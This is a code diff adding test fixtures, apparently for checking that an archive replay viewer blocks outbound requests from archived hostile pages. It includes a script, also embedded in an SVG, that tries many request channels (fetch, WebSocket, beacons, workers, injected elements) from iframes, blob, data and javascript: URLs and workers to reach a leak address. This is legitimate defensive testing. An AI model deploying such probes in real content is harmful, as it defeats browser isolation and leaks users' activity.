@@ -167,12 +167,83 @@ const channel = new URLSearchParams(location.search).get("channel");
 </script>`;
 }
 
+/** Places from which a page may try, each with windows or workers of its own. */
+export const realms = ["main", "blank", "srcdoc", "blob", "data", "javascript", "opaque", "worker", "dataworker"];
+
+/** What is tried in each of them. Runs in windows and workers; documents may be of XML. */
+function attack(address, realm) {
+  const leak = (channel) => `${address}/leak/${realm}/${channel}`;
+  const attempt = (work) => {
+    try {
+      Promise.resolve(work()).catch(() => {});
+    } catch {}
+  };
+  attempt(() => fetch(leak("fetch"), { mode: "no-cors" }));
+  attempt(() => new WebSocket(leak("websocket").replace("http", "ws")));
+  attempt(() => new EventSource(leak("eventsource")));
+  attempt(() => {
+    const request = new XMLHttpRequest();
+    request.open("GET", leak("xhr"));
+    request.send();
+  });
+  if (typeof document === "undefined") return attempt(() => importScripts(leak("importscripts")));
+  const add = (name, fields) => {
+    const element = document.createElementNS("http://www.w3.org/1999/xhtml", name);
+    for (const [key, value] of Object.entries(fields)) element.setAttribute(key, value);
+    (document.body ?? document.documentElement).append(element);
+  };
+  attempt(() => {
+    const request = new XMLHttpRequest();
+    request.open("GET", leak("sync"), false);
+    request.send();
+  });
+  attempt(() => navigator.sendBeacon(leak("beacon"), "x"));
+  attempt(() => add("img", { src: leak("img") }));
+  attempt(() => add("script", { src: leak("script") }));
+  attempt(() => add("iframe", { src: leak("iframe") }));
+  attempt(() => add("object", { data: leak("object") }));
+  attempt(() => add("link", { rel: "stylesheet", href: leak("style") }));
+  attempt(() => add("link", { rel: "prefetch", href: leak("prefetch") }));
+  attempt(() => add("video", { src: leak("video"), poster: leak("poster") }));
+  attempt(() => add("div", { style: `background: url(${leak("background")})` }));
+  attempt(() => import(leak("import")));
+}
+
+/** A document that no script of ours stands in, since it is a picture: it goes through its realms by itself. */
+export function realmsPicture(address) {
+  const script = `${attack}
+const text = (realm) => attack + ";attack(" + JSON.stringify(${JSON.stringify(address)}) + "," + JSON.stringify(realm) + ")";
+const html = (realm) => "<!doctype html><body><script>" + text(realm) + "</" + "script>";
+const frame = (fields) => {
+  const element = document.createElementNS("http://www.w3.org/1999/xhtml", "iframe");
+  for (const [key, value] of Object.entries(fields)) element.setAttribute(key, value);
+  document.documentElement.append(element);
+  return element;
+};
+const code = (realm) => URL.createObjectURL(new Blob([text(realm)], { type: "text/javascript" }));
+const steps = [
+  () => attack(${JSON.stringify(address)}, "main"),
+  () => frame({}).contentWindow.eval(text("blank")),
+  () => frame({ srcdoc: html("srcdoc") }),
+  () => frame({ src: URL.createObjectURL(new Blob([html("blob")], { type: "text/html" })) }),
+  () => frame({ src: "data:text/html," + encodeURIComponent(html("data")) }),
+  () => frame({ src: "javascript:" + encodeURIComponent(JSON.stringify(html("javascript"))) }),
+  () => frame({ sandbox: "allow-scripts", srcdoc: html("opaque") }),
+  () => new Worker(code("worker")),
+  () => new Worker("data:text/javascript," + encodeURIComponent(text("dataworker"))),
+];
+for (const step of steps) try { step(); } catch {}
+setTimeout(() => document.documentElement.setAttribute("data-tried", ""), 2500);`;
+  return `<svg xmlns="http://www.w3.org/2000/svg"><script><![CDATA[${script}]]></script></svg>`;
+}
+
 /** The hostile page under each of its addresses, and beside it one that stays quiet. */
 export function hostileArchive(address) {
   return warcGz(
     warcInfo(),
     channels.map((channel) => page(`https://evil.example/?channel=${channel}`, hostilePage(address))).flat(),
     page("https://evil.example/quiet", "<!doctype html><p>quiet"),
+    file("https://evil.example/realms.svg", "image/svg+xml", realmsPicture(address)),
   );
 }
 
